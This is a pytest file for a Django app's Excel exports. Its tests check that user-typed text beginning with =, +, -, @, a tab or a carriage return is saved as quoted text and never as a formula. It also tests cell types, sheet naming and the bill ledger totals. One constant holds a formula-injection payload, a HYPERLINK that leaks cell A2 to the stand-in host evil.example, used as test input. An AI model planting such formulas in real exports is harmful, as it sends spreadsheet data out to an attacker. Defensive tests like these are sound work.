"""Excel exports never turn text someone typed into a formula (CSV/Excel injection)."""

from datetime import UTC, date, datetime
from decimal import Decimal
from io import BytesIO

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import translation
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from billing.services import LineSpec, bill_create, payment_record
from jinyuan.lists import xlsx_response
from tenants.models import Signboard
from tests import factories

EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")'


def cells(response):
    return [c for row in load_workbook(BytesIO(response.content)).active.iter_rows() for c in row]


def test_plain_values_keep_their_types():
    response = xlsx_response("t", [("A", lambda v: v)], ["文本", 42, "-3", "+86 771"])
    assert [(c.value, c.data_type) for c in cells(response)] == [
        ("A", "s"),
        ("文本", "s"),
        (42, "n"),
        ("-3", "s"),
        ("+86 771", "s"),
    ]


def test_text_starting_with_equals_is_written_as_text():
    response = xlsx_response("t", [("A", lambda v: v)], ["=1+1", EVIL])
    assert [c.data_type for c in cells(response)] == ["s", "s", "s"]


@pytest.mark.django_db
def test_signboard_text_from_the_portal_is_not_a_formula_in_the_desk_export(client_for, tenant_a_admin, desk, building):
    response = client_for(tenant_a_admin).post(
        reverse("portal:tenants:signboard_new"), {"building": building.pk, "position": "lobby", "text": EVIL[:60]}
    )
    assert response.status_code == 302
    assert Signboard.objects.filter(text=EVIL[:60]).exists()
    export = client_for(desk).get(reverse("desk:tenants:signboard_list"), {"export": "xlsx"})
    assert export.status_code == 200
    assert [c.coordinate for c in cells(export) if c.data_type == "f"] == []


# --- formula injection (OWASP): string cells, quote prefix, value as typed ------------------------

FORMULA_LIKE = ["=1+1", "+86 771 5555", "-3", "@SUM(A1)", "\tindented", EVIL]


def test_text_a_spreadsheet_would_read_as_a_formula_gets_the_quote_prefix():
    response = xlsx_response("t", [("A", lambda v: v)], FORMULA_LIKE)
    body = cells(response)[1:]
    assert [c.value for c in body] == FORMULA_LIKE
    assert [c.data_type for c in body] == ["s"] * len(FORMULA_LIKE)
    assert [c.quotePrefix for c in body] == [True] * len(FORMULA_LIKE)


def test_a_carriage_return_first_also_gets_the_quote_prefix():
    (cell,) = cells(xlsx_response("t", [("A", lambda v: v)], ["\rx"]))[1:]
    assert cell.data_type == "s"
    assert cell.quotePrefix


def test_ordinary_text_has_no_quote_prefix():
    body = cells(xlsx_response("t", [("A", lambda v: v)], ["金源", "A-2101", "a=b"]))[1:]
    assert [c.quotePrefix for c in body] == [False, False, False]
    assert [c.data_type for c in body] == ["s", "s", "s"]


# --- typed cells, frozen header, autofilter, names -----------------------------------------------


def test_dates_money_and_times_are_typed_with_a_format(settings):
    row = {"d": date(2026, 3, 9), "m": Decimal("1234.50"), "t": datetime(2026, 3, 9, 1, 30, tzinfo=UTC)}
    columns = [("D", lambda r: r["d"]), ("M", lambda r: r["m"]), ("T", lambda r: r["t"])]
    d, m, t = cells(xlsx_response("t", columns, [row]))[3:]
    assert d.is_date and d.value.date() == date(2026, 3, 9) and d.number_format == "yyyy-mm-dd"
    assert m.data_type == "n" and m.value == Decimal("1234.5") and m.number_format == "#,##0.00"
    # Local wall-clock time (Asia/Shanghai), as the clerk sees it on screen.
    assert t.is_date and t.value == datetime(2026, 3, 9, 9, 30) and t.number_format == "yyyy-mm-dd hh:mm"


def test_header_is_frozen_and_filtered_and_the_sheet_is_named_after_the_register():
    with translation.override("zh-hans"):
        response = xlsx_response(gettext_lazy("Tenant register"), [("A", str), ("B", str)], ["x", "y", "z"])
    sheet = load_workbook(BytesIO(response.content)).active
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:B4"
    assert sheet.title == "业户台账"
    assert sheet["A1"].font.b


def test_file_is_named_in_chinese_with_an_ascii_fallback():
    with translation.override("zh-hans"):
        disposition = xlsx_response(gettext_lazy("Tenant register"), [("A", str)], [])["Content-Disposition"]
    assert disposition.startswith('attachment; filename="tenant-register-')
    assert "filename*=UTF-8''%E4%B8%9A%E6%88%B7%E5%8F%B0%E8%B4%A6-" in disposition  # 业户台账
    assert disposition.endswith(".xlsx")
    assert disposition.isascii()


def test_a_sheet_name_excel_refuses_is_cleaned():
    sheet = load_workbook(BytesIO(xlsx_response("a/b:c" + "x" * 40, [("A", str)], []).content)).active
    assert sheet.title == ("a b c" + "x" * 40)[:31]


# --- the bill ledger: units and totals, in a fixed number of queries ----------------------------


def _bill_with_unit(tenant, desk, unit, amount):
    item = factories.paid_service_item()
    return bill_create(
        tenant=tenant, title="有偿服务", by=desk, lines=[LineSpec(item, "维修", Decimal(1), Decimal(amount), unit=unit)]
    )


def _export_rows(client):
    with CaptureQueriesContext(connection) as captured:
        response = client.get(reverse("desk:billing:bill_list"), {"export": "xlsx"})
    assert response.status_code == 200
    rows = list(load_workbook(BytesIO(response.content)).active.iter_rows(values_only=True))
    return rows, len(captured)


@pytest.mark.django_db
def test_bill_ledger_has_the_units_and_a_totals_row_in_fixed_queries(client_for, finance, desk, tenant_a, unit_a):
    client = client_for(finance)
    first = _bill_with_unit(tenant_a, desk, unit_a, "100.00")
    payment_record(tenant=tenant_a, amount=Decimal("30.00"), method="cash", by=desk, bills=[first])
    client.get(reverse("desk:billing:bill_list"), {"export": "xlsx"})  # warm up
    rows, one = _export_rows(client)
    header = rows[0]
    units = header.index(str(gettext_lazy("Units")))
    assert rows[1][units] == unit_a.number
    assert rows[-1][0] == "合计"
    total, paid, outstanding = (header.index(str(gettext_lazy(n))) for n in ("Total", "Paid", "Outstanding"))
    assert (rows[-1][total], rows[-1][paid], rows[-1][outstanding]) == (100, 30, 70)
    for amount in ("10.00", "20.00", "30.00", "40.00"):
        _bill_with_unit(tenant_a, desk, unit_a, amount)
    rows, five = _export_rows(client)
    assert len(rows) == 1 + 5 + 1
    assert (rows[-1][total], rows[-1][paid], rows[-1][outstanding]) == (200, 30, 170)
    assert one == five
